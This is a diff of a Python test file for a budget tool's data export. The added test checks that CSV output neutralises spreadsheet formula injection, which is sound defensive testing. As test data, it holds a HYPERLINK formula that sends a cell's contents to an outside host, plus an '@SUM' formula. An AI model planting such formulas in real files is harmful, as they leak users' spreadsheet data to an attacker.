@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -83,6 +85,25 @@ def test_one_budget_is_read_in_full(service: Service, lake: Lake) -> None:
         lake.sync([service.source()], full=["Housebold"])
     with pytest.raises(ToolError, match=r"full='a': pass a list, such as full=\['a'\]"):
         lake.sync([service.source()], full="a")
+
+
+def test_a_text_in_the_csv_files_for_the_owner_is_no_formula(
+    service: Service, new_lake: Lake, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Rent")'
+    with service.facade() as bf:
+        row = {"date": "2026-06-01", "account_name": "Checking", "payee_name": formula}
+        bf.create_transactions([{**row, "amount": -2.5, "memo": "@SUM(A1:A9)"}])
+    new_lake.sync([service.source(budgets=[EURO])])
+    path = new_lake.export(EURO, tmp_path / "anna.zip")
+    with zipfile.ZipFile(path) as archive:
+        rows = [*csv.DictReader(io.StringIO(archive.read("ledger.csv").decode()))]
+        answer = archive.read("budget.json").decode()
+    found = [row for row in rows if row["memo"].endswith("@SUM(A1:A9)")]
+    assert [(row["payee_name"], row["memo"], row["amount"]) for row in found] == [
+        (f"'{formula}", "'@SUM(A1:A9)", "-2.5")
+    ]
+    assert '"@SUM(A1:A9)"' in answer
 
 
 def test_the_owner_of_a_budget_gets_everything_about_it_and_nothing_else(
